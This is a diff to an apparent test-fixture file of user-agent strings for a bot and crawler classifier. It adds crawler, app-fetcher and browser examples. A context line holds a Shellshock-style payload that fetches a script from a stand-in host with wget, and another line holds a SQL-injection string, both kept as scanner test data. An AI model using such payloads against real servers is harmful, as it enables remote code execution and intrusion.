@@ -2,7 +2,8 @@
  * Real agents of the kinds the crawler-truth check found missed or wrongly flagged, for the classifier's tests
  * and the ingest endpoints' tests. Crawler agents are as crawler lists (monperrus/crawler-user-agents,
  * arcjet/well-known-bots) and vendors' crawler pages print them; people's agents as parser test data
- * (ua-parser/uap-core, bowser) gives them. `token` is the catalog token expected, or "unknown" for automation
+ * (ua-parser/uap-core, bowser) gives them; the bad-agent list's crawlers as crawler-user-agents and uap-core's
+ * test data print them. `token` is the catalog token expected, or "unknown" for automation
  * the catalog does not name; `category` the category expected.
  */
 
@@ -178,6 +179,28 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
       category: "social_preview",
     },
   ],
+  "bad agents named by nginx-ultimate-bad-bot-blocker's list": [
+    {
+      ua: "Mozilla/5.0 (compatible; SiteExplorer/1.1b; +http://siteexplorer.info/Backlink-Checker-Spider/)",
+      token: "SiteExplorer",
+      category: "other",
+    },
+    {
+      ua: "TurnitinBot/3.0 (http://www.turnitin.com/robot/crawlerinfo.html)",
+      token: "TurnitinBot",
+      category: "other",
+    },
+    { ua: "Xaldon WebSpider 2.7.b6", token: "Xaldon WebSpider", category: "other" },
+  ],
+  "services' fetchers under an app's name, with a URL and no platform": [
+    {
+      ua: "Overcast/1.0 Podcast Sync (123 subscribers; feed-id=456789; +http://overcast.fm/)",
+      token: "unknown",
+      category: "other",
+    },
+    { ua: "Pinterest/0.2 (+http://www.pinterest.com/)", token: "unknown", category: "other" },
+    { ua: "Ghost/2.13.1+moya (https://github.com/TryGhost/Ghost)", token: "unknown", category: "other" },
+  ],
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
     { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
@@ -209,5 +232,23 @@ export const PEOPLE_KINDS: Record<string, string[]> = {
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Herring/95.5.4464.65",
     "Mozilla/5.0 (AmigaOS; U; AmigaOS 1.3; en-US; rv:1.8.1.21) Gecko/20090303 Timberwolf/2.0",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 SLBrowser/9.0.5.12181 SLBChan/105 SLBVPV/64-bit",
+    // bare or short names after the browser's own, known from uap-core's browser families
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.31339 Safari/537.36 Sparrow",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Talon",
+    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 ABB/3.7.1",
+  ],
+  "desktop podcatchers and feed readers giving their home page beside their platform": [
+    "Juice/2.2 (Windows) +http://juicereceiver.sf.net/",
+    "Liferea/0.x.x (Linux; en_US.UTF-8; http://liferea.sf.net/)",
+  ],
+  "desktop, mail and GIS software known by its name alone (uap-core's families)": [
+    "RCM CardDAV plugin/2.0.4",
+    "ExchangeServicesClient/14.02.0051.000",
+    "CITA RSS Aggregator/2.7",
+    "ArcGIS Client Using WinInet",
+    "JOSM/1.5 (15492 nl) Windows 7 64-Bit Java/1.8.0_221",
+  ],
+  "in-app browsers whose carrier field holds a crawler word": [
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15G77 [FBAN/FBIOS;FBAV/194.0.0.38.99;FBBV/127868476;FBDV/iPhone7,2;FBMD/iPhone;FBSN/iOS;FBSV/11.4.1;FBSS/2;FBCR/OrangeBotswana;FBID/phone;FBLC/en_GB;FBOP/5;FBRV/128807018]",
   ],
 };
